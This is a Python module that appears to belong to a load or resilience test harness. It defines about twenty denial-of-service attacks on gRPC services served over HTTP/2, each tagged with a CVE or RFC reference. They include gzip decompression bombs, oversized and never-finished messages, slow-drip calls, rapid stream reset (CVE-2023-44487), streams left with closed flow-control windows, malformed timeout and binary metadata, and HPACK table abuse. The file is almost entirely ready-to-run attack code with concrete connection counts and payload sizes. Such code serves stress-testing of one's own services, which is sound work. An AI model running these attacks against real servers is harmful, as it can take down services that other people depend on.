"""over_grpc -- attacks on gRPC, which route-guide serves and, behind it, feature-store."""

from __future__ import annotations

import functools
import gzip
import itertools

import frames
from frames import data, headers, literal, message, reset, start
from over_http2 import NO_WINDOW, STREAMS, batches
from script import AGAIN, GRPC, POINT, STORE, Line, Script, attack

SERVICE = "/routeguide.RouteGuide"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
WAIT_S = 0.02


def streams() -> range:
    """As many as a connection may have."""
    return range(1, 2 * STREAMS, 2)


def call(line: Line, method: str, **more: str) -> bytes:
    path = method if method.startswith("/") else f"{SERVICE}/{method}"
    return line.target.block("POST", path, **more)


def sent(line: Line, left: dict[int, bytes]) -> Script:
    """All of it, on all streams alike, as far as the server's windows allow."""
    while any(left.values()):
        for stream, rest in left.items():
            if count := line.take(stream, len(rest)):
                left[stream] = rest[count:]
                yield data(stream, rest[:count])
        yield WAIT_S


def whole_world() -> bytes:
    """A Rectangle with every feature in it."""

    def point(latitude: int, longitude: int) -> bytes:
        return b"\x08" + varint(latitude) + b"\x10" + varint(longitude)

    def field(number: int, value: bytes) -> bytes:
        return bytes((number << 3 | 2, len(value))) + value

    return field(1, point(-900000000, -1800000000)) + field(2, point(900000000, 1800000000))


def varint(value: int) -> bytes:
    value, out = value & (1 << 64) - 1, b""
    while value > 127:
        out, value = out + bytes((value & 127 | 128,)), value >> 7
    return out + bytes((value,))


WORLD = whole_world()


def unknown_field(size: int) -> bytes:
    """A message that is valid but for its size."""
    return b"\x7a" + varint(size) + b"a" * size


BOMBLET = gzip.compress(unknown_field(65_000), 9)


@functools.cache
def bombs() -> list[bytes]:
    """126 KB, which is beyond the limit of a message, and 60 KB, which is below it."""
    return [gzip.compress(unknown_field(size << 20), 9) for size in (128, 60)]


# ---- messages ----


@attack(on=(*GRPC, *STORE), connections=4, windows=True)
def gzip_bomb(line: Line) -> Script:
    """CVE-2022-29225 and CVE-2026-48044: messages of 126 KB that inflate to 128 MiB, or 60 KB to 60 MiB, on 100 streams
    of 4 connections."""
    asked = call(line, "GetFeature", grpc_encoding="gzip")
    yield start() + b"".join(headers(stream, asked, end=False) for stream in streams())
    yield from sent(line, {stream: message(bombs()[stream // 2 % 2], compressed=True) for stream in streams()})


@attack(on=GRPC, connections=8, windows=True)
def small_gzip_bombs(line: Line) -> Script:
    """CVE-2022-29225: messages of 100 bytes that inflate to just below the limit, as many as the windows allow."""
    asked = call(line, "RecordRoute", grpc_encoding="gzip")
    yield start() + b"".join(headers(stream, asked, end=False) for stream in streams())
    many = message(BOMBLET, compressed=True) * 100
    while True:
        yield from sent(line, dict.fromkeys(streams(), many))


@attack(on=(*GRPC, *STORE), connections=4, windows=True)
def oversized_message(line: Line) -> Script:
    """CWE-789: messages whose prefix says 160 MiB, or 4 GB, and as much of them as the windows allow."""
    asked = call(line, "GetFeature")
    yield start() + b"".join(headers(stream, asked, end=False) for stream in streams())
    size = (160 << 20) if line.number % 2 else 2**32 - 1
    part = message(b"a" * (1 << 20), size=size)
    while True:
        yield from sent(line, dict.fromkeys(streams(), part))


@attack(on=(*GRPC, *STORE), connections=40, windows=True, exhausts=(*GRPC, *STORE))
def unfinished_messages(line: Line) -> Script:
    """RFC 9113, 10.5: 4,000 messages of 60 KB without their last byte, over 40 connections."""
    asked = call(line, "RecordRoute")
    yield start() + b"".join(headers(stream, asked, end=False) for stream in streams())
    part = message(b"\x0a" * 60_000, size=60_001)
    yield from sent(line, dict.fromkeys(streams(), part))


@attack(on=GRPC, connections=8, windows=True)
def tiny_messages(line: Line) -> Script:
    """CVE-2020-12603: streams of empty messages, as many as the windows allow."""
    asked = call(line, "RecordRoute")
    yield start() + b"".join(headers(stream, asked, end=False) for stream in streams())
    while True:
        yield from sent(line, dict.fromkeys(streams(), message(b"") * 3000))


@attack(on=GRPC, connections=500, windows=True)
def dripped_messages(line: Line) -> Script:
    """CVE-2019-5737: 500 calls that send a byte of a message every 0.2 s."""
    yield start() + headers(1, call(line, "RecordRoute"), end=False)
    while True:
        yield from sent(line, {1: message(b"x", size=60_000)[:1]})
        yield 0.2


# ---- calls ----


@attack(on=(*GRPC, *STORE), connections=100, exhausts=(*GRPC, *STORE))
def open_calls(line: Line) -> Script:
    """RFC 9113, 10.5: 10,000 calls over 100 connections, which send nothing."""
    asked = call(line, "RecordRoute")
    yield start() + b"".join(headers(stream, asked, end=False) for stream in streams())


@attack(on=GRPC, connections=20)
def unread_answers(line: Line) -> Script:
    """CVE-2023-43622: 2,000 calls that list all features, for which the client opens no window."""
    asked = call(line, "ListFeatures")
    yield start(NO_WINDOW) + b"".join(
        headers(stream, asked, end=False) + data(stream, message(WORLD), end=True) for stream in streams()
    )


@attack(on=GRPC, connections=20, reads=False)
def closed_tcp_window_of_answers(line: Line) -> Script:
    """CVE-2019-9517: calls that list all features without end, with windows of 2 GB, over 20 connections that are not
    read."""
    asked = call(line, "ListFeatures")
    yield start((frames.INITIAL_WINDOW_SIZE, 2**31 - 1)) + frames.window_update(0, 2**31 - 1 - frames.WINDOW)
    yield from batches(
        headers(stream, asked, end=False) + data(stream, message(WORLD), end=True) for stream in line.streams()
    )


@attack(on=GRPC, connections=100, reads=False)
def closed_tcp_windows_of_many(line: Line) -> Script:
    """CVE-2019-9517: the same over 100 connections: what the kernel keeps for each is little."""
    yield from closed_tcp_window_of_answers(line)


@attack(on=GRPC, connections=20)
def cancelled_lists(line: Line) -> Script:
    """CVE-2023-44487: calls that list all features, which are cancelled as soon as they are sent."""
    asked = call(line, "ListFeatures")
    yield start()
    yield from batches(
        headers(stream, asked, end=False) + data(stream, message(WORLD), end=True) + reset(stream)
        for stream in line.streams()
    )


@attack(on=GRPC, connections=20, windows=True)
def unread_chat(line: Line) -> Script:
    """CVE-2020-12604: 2,000 chats that send notes of 1 KB for one place without end, and open no window for the answers."""
    location = b"\x0a" + bytes((len(POINT),)) + POINT
    note = location + b"\x12" + varint(900) + b"n" * 900
    asked = call(line, "RouteChat")
    yield start(NO_WINDOW) + b"".join(headers(stream, asked, end=False) for stream in streams())
    while True:
        yield from sent(line, dict.fromkeys(streams(), message(note) * 10))


@attack(on=GRPC, connections=100)
def health_watches(line: Line) -> Script:
    """RFC 9113, 10.5: 10,000 calls of the health service's Watch over 100 connections."""
    asked = call(line, "/grpc.health.v1.Health/Watch")
    yield start() + b"".join(
        headers(stream, asked, end=False) + data(stream, message(b""), end=True) for stream in streams()
    )


@attack(on=GRPC, connections=4000)
def unending_calls(line: Line) -> Script:
    """CVE-2020-8663: more connections than the listener takes, each with a call that does not end, so that none is idle:
    Watch of the health service, or a list of which nothing is taken."""
    asked = call(line, "/grpc.health.v1.Health/Watch" if line.number % 2 == 0 else "ListFeatures")
    body = message(b"" if line.number % 2 == 0 else WORLD)
    yield start(NO_WINDOW) + headers(1, asked, end=False) + data(1, body, end=True)


@attack(on=GRPC, connections=20, windows=True)
def unread_reflection(line: Line) -> Script:
    """CVE-2020-12604: calls of the reflection service that ask for all files without end, and open no window."""
    asked = call(line, REFLECTION)
    wanted = b"\x22" + bytes((len("routeguide.RouteGuide"),)) + b"routeguide.RouteGuide"
    yield start(NO_WINDOW) + b"".join(headers(stream, asked, end=False) for stream in streams())
    while True:
        yield from sent(line, dict.fromkeys(streams(), message(wanted) * 50))


# ---- metadata ----


@attack(on=GRPC, connections=20)
def wrong_timeouts(line: Line) -> Script:
    """CVE-2021-28682: calls whose grpc-timeout overflows, is negative, or is no number."""
    wrong = ("99999999H", "999999999999999999999H", "-1S", "0n", "1", "S", "1Ss", "1e9S", "00000000000000000001n")
    asked = [call(line, "GetFeature", grpc_timeout=value) for value in wrong]
    yield start()
    turns = zip(line.streams(), itertools.cycle(asked), strict=False)
    yield from batches(line.target.request(stream, block) for stream, block in turns)


@attack(on=GRPC, connections=20)
def wrong_binary_metadata(line: Line) -> Script:
    """CVE-2023-32732: calls whose binary metadata is no base64, or empty, or long."""
    wrong = ("====", "a", "%%%%", "", "A" * 16_000, "AAAA,AAAA,====")
    asked = [line.target.block("POST", "", x_bin=value) for value in wrong]
    yield start()
    turns = zip(line.streams(), itertools.cycle(asked), strict=False)
    yield from batches((line.target.request(stream, block) for stream, block in turns), 20)


@attack(on=GRPC, connections=100)
def large_metadata(line: Line) -> Script:
    """CVE-2023-33953: 10,000 calls with 15,000 bytes of metadata each, over 100 connections, which send no message."""
    asked = call(line, "RecordRoute", x="y" * 15_000)
    yield start()
    yield from batches((headers(stream, asked, end=False) for stream in streams()), 10)


@attack(on=GRPC, connections=20)
def metadata_beyond_the_limit(line: Line) -> Script:
    """CVE-2023-32731: calls whose metadata exceeds the limit and changes HPACK's table, and calls that use the table."""
    asked = line.target.block()
    yield start()
    for stream in itertools.count(1, 4):
        fields = b"".join(literal(b"x%d" % number, b"y" * 3000, index=True) for number in range(6))
        yield headers(stream, asked + fields, end=False) + line.target.request(stream + 2, asked + b"\xbe")
        yield 0.001


@attack(on=GRPC, connections=20)
def unknown_methods(line: Line) -> Script:
    """CVE-2026-33186 and CVE-2022-21698: calls of methods that nobody knows, each with another name, or without a slash."""
    yield start()

    def asked(stream: int) -> bytes:
        path = f"/none.{line.number}/{stream}" if stream % 4 == 1 else f"routeguide.RouteGuide/GetFeature{stream}"
        return line.target.request(stream, line.target.block("POST", path))

    yield from batches(asked(stream) for stream in line.streams())


@attack(on=GRPC, connections=50)
def other_protocols(line: Line) -> Script:
    """CVE-2026-47204: requests that are no gRPC: other content types, methods and codings, each on a new connection."""
    known = dict(line.target.fields())
    changes = (
        {"content-type": "application/connect+proto"},
        {"content-type": "text/html"},
        {":method": "GET"},
        {"te": "gzip"},
        {"grpc-encoding": "zstd"},
        {"grpc-encoding": "x" * 9000},
        {"content-type": "application/grpc+" + "x" * 9000},
    )
    yield start()
    for stream, change in zip(line.streams(), changes, strict=False):
        asked = frames.block(*(known | change).items())
        yield headers(stream, asked, end=False) + data(stream, message(b"x", compressed=True), end=True)
    yield 0.01
    yield AGAIN
